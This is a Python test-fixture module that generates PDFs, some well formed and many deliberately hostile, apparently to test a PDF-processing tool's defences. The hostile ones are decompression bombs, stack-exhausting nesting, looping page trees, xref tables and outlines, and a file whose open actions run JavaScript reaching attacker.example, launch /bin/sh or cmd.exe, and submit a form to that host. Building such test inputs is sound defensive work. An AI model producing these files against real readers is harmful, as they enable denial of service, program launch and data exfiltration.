"""PDFs made on the spot, good and bad."""

import random
import zlib
from collections.abc import Mapping, Sequence
from io import BytesIO

from pypdf import PdfReader, PdfWriter

from appliance.cli.samples.make_pdf import assemble, write_pdf

PAGES = (
    "# Night shift\nThe porter rings the ward before the lift is called.",
    "# Keys\nKeys are handed over in person (never by post) and signed for in the blue book at reception.",
    "# Fire\nNobody goes back for a bag.",
)


def text_pdf(pages: Sequence[str] = PAGES) -> bytes:
    return write_pdf(pages)


def encrypted_pdf(algorithm: str, password: str = "secret") -> bytes:
    """algorithm: RC4-128, AES-128 or AES-256."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(text_pdf())))
    writer.encrypt(user_password=password, owner_password="owner", algorithm=algorithm)
    return _written(writer)


def image_pdf() -> bytes:
    """A page with a drawing and no text."""
    return _one_page(b"0 0 100 100 re f")


def bomb_pdf(mebibytes: int) -> bytes:
    """A few kilobytes that unpack to one page of so many mebibytes of text operators."""
    show = b"(All work and no play makes a dull document. ) Tj T*\n"
    return _one_page(b"BT /F1 9 Tf 12 TL 20 800 Td\n" + show * ((mebibytes << 20) // len(show)) + b"ET")


def nested_pdf(depth: int) -> bytes:
    """Arrays in arrays, where a recursive parser runs out of stack."""
    return _one_page(b"BT ET", b"/Deep " + b"[" * depth + b"]" * depth)


def circular_pdf() -> bytes:
    """A page tree that has itself as a child."""
    return assemble([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"], b"/Root 1 0 R")


def half_broken_pdf(text: str) -> bytes:
    """A page of text, and one that is none."""
    content = _text(60, 700, 12, text)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 3 0 R>>>>>>"
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[5 0 R 6 0 R]/Count 2>>",
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
            b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
            page,
            b"[]",
        ],
        b"/Root 1 0 R",
    )


def unreferenced_pdf() -> bytes:
    """Text in a file whose cross-reference table is lost: what a careful reader still reads."""
    whole = text_pdf()
    return whole[: whole.index(b"xref\n")] + whole[whole.index(b"trailer") : whole.index(b"startxref")]


def columns_pdf(left: Sequence[str], right: Sequence[str]) -> bytes:
    """Two columns of text whose lines were written row by row, below a title and above a line across both."""
    shown = [_text(60, 800, 20, "A title over both of the columns of this page")]
    for row, pair in enumerate(zip(left, right, strict=True)):
        shown += [_text(x, 760 - 14 * row, 11, line) for x, line in zip((60, 320), pair, strict=True)]
    shown.append(
        _text(60, 700 - 14 * len(left), 11, "One line goes across the page below both of the columns, to its edge.")
    )
    return _one_page(b"\n".join(shown))


def table_pdf(rows: Sequence[Sequence[str]], *, ruled: bool) -> bytes:
    """A table between two lines of text, its cells apart by drawn lines or by gaps alone."""
    shown = [_text(60, 780, 11, "The table says when each ward is open, and it is short."), b"0.5 w"]
    for row, cells in enumerate(rows):
        shown += [_text(66 + 150 * column, 745 - 20 * row, 11, cell) for column, cell in enumerate(cells) if cell]
    bottom, right = 740 - 20 * (len(rows) - 1) - 2, 60 + 150 * len(rows[0])
    if ruled:
        shown += [b"60 %d m %d %d l S" % (760 - 20 * line, right, 760 - 20 * line) for line in range(len(rows) + 1)]
        shown += [b"%d 760 m %d %d l S" % (x, x, bottom) for x in range(60, right + 1, 150)]
    shown.append(_text(60, bottom - 60, 11, "That was the table, and here the text goes on for a little."))
    return _one_page(b"\n".join(shown))


def lines_pdf(
    lines: Sequence[tuple[float, float, float, str]], more: bytes = b"", objects: Sequence[bytes] = ()
) -> bytes:
    """One page with each line at x, y, in that size. more: entries of the page; objects: from 6 on."""
    return _one_page(b"\n".join(_text(*line) for line in lines), more, objects)


def turned_pdf(quarters: int) -> bytes:
    """A page whose lines are written so many quarter turns to the left, and which is shown turned back."""
    matrix = ((1, 0, 0, 1, 60, 780), (0, 1, -1, 0, 100, 60), (-1, 0, 0, -1, 500, 100), (0, -1, 1, 0, 500, 780))[
        quarters
    ]
    lines = b"".join(
        b"(%s) Tj 0 -14 Td\n" % line for line in (b"Read me first of all", b"and me after that", b"and me last")
    )
    place = b"%d %d %d %d %d %d Tm" % matrix
    return _one_page(b"BT /F1 11 Tf " + place + b"\n" + lines + b"ET", b"/Rotate %d" % (90 * quarters))


def outlined_pdf() -> bytes:
    """Headings as large as the text, which only the outline names, on two levels."""
    shown = [_text(60, 780, 11, "1 Wards"), _text(60, 760, 11, "Wards open at six."), _text(60, 740, 11, "1.1 Lifts")]
    shown.append(_text(60, 720, 11, "Lifts run all night."))
    outline = (
        b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 2>>",
        b"<</Title(Wards)/Parent 6 0 R/Dest[3 0 R/Fit]/First 8 0 R/Last 8 0 R/Count 1>>",
        b"<</Title(Lifts)/Parent 7 0 R/Dest[3 0 R/Fit]>>",
    )
    return _one_page(b"\n".join(shown), objects=outline, catalog=b"/Outlines 6 0 R")


def form_pdf() -> bytes:
    """A form that was filled in, with a field for a password, a note, and links of which one is a script."""
    fields = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(Name)/V(Ada King)/Rect[0 0 50 9]>>",
        b"<</Type/Annot/Subtype/Widget/FT/Tx/Ff 8192/T(Password)/V(secret)/Rect[0 9 50 18]>>",
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(Agrees)/V/Yes/AS/Yes/Rect[0 18 9 27]/AP<</N<</Yes<<>>/Off<<>>>>>>>>",
    )
    notes = (
        b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(Ask the porter.)>>"
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://wards.example/night)>>>>"
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
    )
    return _one_page(
        _text(60, 780, 11, "Please fill in."),
        b"/Annots[6 0 R 7 0 R 8 0 R" + notes + b"]",
        fields,
        b"/AcroForm<</Fields[6 0 R 7 0 R 8 0 R]>>",
    )


def acting_pdf() -> bytes:
    """A page that would run JavaScript, launch a program and send itself away as soon as it is opened."""
    actions = (
        b"<</S/JavaScript/JS(app.launchURL\\('https://attacker.example/js'\\))/Next 7 0 R>>",
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>/Next 8 0 R>>",
        b"<</S/SubmitForm/F<</FS/URL/F(https://attacker.example/form)>>>>",
    )
    names = b"/OpenAction 6 0 R/AA<</WC 7 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"
    return _one_page(_text(60, 780, 11, "Only this is said."), b"/AA<</O 6 0 R>>", actions, names)


def attaching_pdf(files: Mapping[str, bytes]) -> bytes:
    """A page of text with files embedded in it."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(text_pdf())))
    for name, content in files.items():
        writer.add_attachment(name, content)
    return _written(writer)


def many_pages_pdf(count: int) -> bytes:
    """So many pages that are one object each."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    tree = b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)
    return assemble([b"<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * count], b"/Root 1 0 R")


def picture_pdf(pixels: bytes, width: int, height: int, bits: int = 8, text: bytes = b"") -> bytes:
    """A page that is one grey picture, as a scanner makes it."""
    packed = zlib.compress(pixels, 1)
    picture = b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent %d" % (
        width,
        height,
        bits,
    )
    picture += b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    return _one_page(b"q 595 0 0 842 0 0 cm /I Do Q\n" + text, objects=(picture,))


def noise_pdf(count: int) -> bytes:
    """So many pages of specks as small as the smallest letters, below a line of text: a picture of A4 at 300 dots."""
    chance = random.Random(5)
    specks = b"\xff\x0f\xf0"
    rows = (bytes(chance.choices(specks, (96, 2, 2), k=310)) * 4 for _ in range(877))
    packed = zlib.compress(b"".join(rows), 9)
    picture = b"<</Type/XObject/Subtype/Image/Width 2480/Height 3508/ColorSpace/DeviceGray/BitsPerComponent 1"
    picture += b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    return _same_pages(b"q 595 0 0 800 0 0 cm /I Do Q " + _text(60, 815, 14, "A line to be read"), count, picture)


def drawn_pdf(count: int, paths: int, text: str = "") -> bytes:
    """So many pages full of drawn lines, and a line of text where there is one."""
    chance = random.Random(5)
    lines = [
        b"%d %d m %d %d l S" % tuple(chance.randrange(most) for most in (595, 842, 595, 842)) for _ in range(paths)
    ]
    return _same_pages(b"\n".join(lines) + (_text(60, 815, 14, text) if text else b""), count)


def looping_xref_pdf() -> bytes:
    """Its table of objects names itself as the one before."""
    whole = text_pdf()
    start = int(whole[whole.rindex(b"startxref") + 9 :].split()[0])
    return whole.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % start)


def object_stream_pdf(mebibytes: int) -> bytes:
    """Its objects lie in a stream that unpacks to a thousand times its size."""
    first = b"1 0 2 40"
    unpacked = first + b" " * (64 - len(first)) + b"<</Type/Catalog/Pages 2 0 R>>".ljust(40)
    unpacked += b"<</Type/Pages/Kids[]/Count 0>>" + b" " * (mebibytes << 20)
    packed = zlib.compress(unpacked, 9)
    stream = b"3 0 obj\n<</Type/ObjStm/N 2/First 64/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n"
    out = b"%PDF-1.5\n" + stream % (len(packed), packed)
    table = b"\2\0\3\0\2\0\3\1\1\0\11\0"  # both objects in stream 3; stream 3 at byte 9
    out_start = len(out)
    out += b"4 0 obj\n<</Type/XRef/Size 4/Index[1 3]/W[1 2 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % out_start


def cyclic_fonts_pdf() -> bytes:
    """A font whose letters are drawn with the font itself, one that descends from itself, and a form within itself."""
    fonts = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
        b"/Encoding<</Differences[65/A]>>/CharProcs<</A 8 0 R>>/Resources<</Font<</F2 6 0 R>>>>>>",
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[7 0 R]>>",
        b"<</Length 32>>stream\nBT /F2 1 Tf 0 0 Td (A) Tj ET    \nendstream",
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 9 0 R>>>>/Length 5>>"
        b"stream\n/X Do\nendstream",
    )
    content = _text(60, 780, 11, "Sound") + b" BT /F2 9 Tf (AAA) Tj /F3 9 Tf (AA) Tj ET /X Do"
    return _one_page(content, objects=fonts, fonts=b"/F2 6 0 R/F3 7 0 R", pictures=b"/X 9 0 R")


def updated_pdf() -> bytes:
    """The page was changed after it was written, and the change appended."""
    whole = text_pdf(("The old rule.",))
    start = whole.rindex(b"startxref") + 9
    stream = zlib.compress(_text(60, 780, 11, "The new rule."))
    body = b"5 0 obj\n<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n" % (len(stream), stream)
    table = b"xref\n5 1\n%010d 00000 n \ntrailer\n<</Size 7/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
    return whole + body + table % (len(whole), whole[start:].split()[0], len(whole) + len(body))


def glyphs_pdf(text: str) -> bytes:
    """Text in a font that says by a map which characters its codes stand for; '' says nothing of them."""
    codes = b"".join(b"%02x" % (number + 1) for number in range(len(text)))
    pairs = b"\n".join(
        b"<%02x> <%s>" % (number + 1, one.encode("utf-16-be").hex().encode()) for number, one in enumerate(text)
    )
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def\n"
        b"1 begincodespacerange <00> <ff> endcodespacerange\n%d beginbfchar\n%s\nendbfchar endcmap end end"
    ) % (len(text), pairs)
    fonts = (
        b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 1/LastChar %d/Widths[%s]/ToUnicode 7 0 R>>"
        % (len(text), b" ".join([b"500"] * len(text))),
        b"<</Length %d>>stream\n%s\nendstream" % (len(cmap), cmap),
    )
    return _one_page(b"BT /F2 12 Tf 60 780 Td <%s> Tj ET" % codes, objects=fonts, fonts=b"/F2 6 0 R")


def _text(x: float, y: float, size: float, line: str) -> bytes:
    escaped = line.encode("cp1252").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"BT /F1 %g Tf %g %g Td (%s) Tj ET" % (size, x, y, escaped)


def _written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page(
    content: bytes,
    more: bytes = b"",
    objects: Sequence[bytes] = (),
    catalog: bytes = b"",
    fonts: bytes = b"",
    pictures: bytes = b"/I 6 0 R",
) -> bytes:
    """more: entries of the page; objects: numbered from 6; catalog, fonts, pictures: entries of these."""
    stream = zlib.compress(zlib.compress(content, 9), 9)
    resources = b"<</Font<</F1 4 0 R%s>>/XObject<<%s>>>>" % (fonts, pictures)
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources%s%s>>" % (resources, more),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
            b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream" % (len(stream), stream),
            *objects,
        ],
        b"/Root 1 0 R",
    )


def _same_pages(content: bytes, count: int, picture: bytes = b"null") -> bytes:
    """Pages that all have this content and may show the picture."""
    stream, kids = zlib.compress(content, 9), b" ".join(b"%d 0 R" % (number + 6) for number in range(count))
    resources = b"<</Font<</F1 3 0 R>>/XObject<</I 5 0 R>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources%s>>" % resources
    return assemble(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
            b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(stream), stream),
            picture,
            *[page] * count,
        ],
        b"/Root 1 0 R",
    )


def running_pdf(header: str, bodies: Sequence[str]) -> bytes:
    """A page for each text, below the same header and above its page's number."""
    return joined(
        *(
            lines_pdf([(60, 800, 11, header), (60, 500, 11, body), (60, 40, 11, f"Page {number} of {len(bodies)}")])
            for number, body in enumerate(bodies, 1)
        )
    )


def joined(*files: bytes) -> bytes:
    """All their pages in one."""
    writer = PdfWriter()
    for file in files:
        writer.append(BytesIO(file))
    return _written(writer)


def attached_bomb_pdf(mebibytes: int) -> bytes:
    """An embedded file that unpacks to a thousand times its size."""
    return _attached(zlib.compress(bytes(mebibytes << 20), 9))


def attached_large_pdf(mebibytes: int) -> bytes:
    """An embedded file of so many mebibytes that unpacks to thirty times its size."""
    chance = random.Random(5)
    content = b"".join(chance.randbytes(1 << 15) + bytes((1 << 20) - (1 << 15)) for _ in range(mebibytes))
    return _attached(zlib.compress(content, 1))


def _attached(packed: bytes) -> bytes:
    attached = (
        b"<</Type/Filespec/F(zeros.bin)/EF<</F 7 0 R>>>>",
        b"<</Type/EmbeddedFile/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
    )
    return _one_page(_text(60, 780, 11, "See within."), b"", attached, b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>")


def looping_outline_pdf() -> bytes:
    """An outline whose entries follow and contain each other."""
    outline = (
        b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1000000>>",
        b"<</Title(Again)/Parent 6 0 R/Next 8 0 R/First 8 0 R/Dest[3 0 R/Fit]>>",
        b"<</Title(And again)/Parent 7 0 R/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
    )
    return _one_page(_text(60, 780, 11, "Once."), objects=outline, catalog=b"/Outlines 6 0 R")


def crowded_pdf(count: int) -> bytes:
    """So many words, and as many ruling lines, at random places of one page."""
    chance = random.Random(5)
    shown = [b"0.5 w"]
    for _ in range(count):
        x, y = chance.uniform(20, 560), chance.uniform(20, 820)
        shown.append(_text(x, y, chance.choice((6, 9, 12)), "word"))
        shown.append(b"%g %g m %g %g l S" % ((x, y, x, y + 40) if chance.random() < 0.5 else (x, y, x + 40, y)))
    return _one_page(b"\n".join(shown))
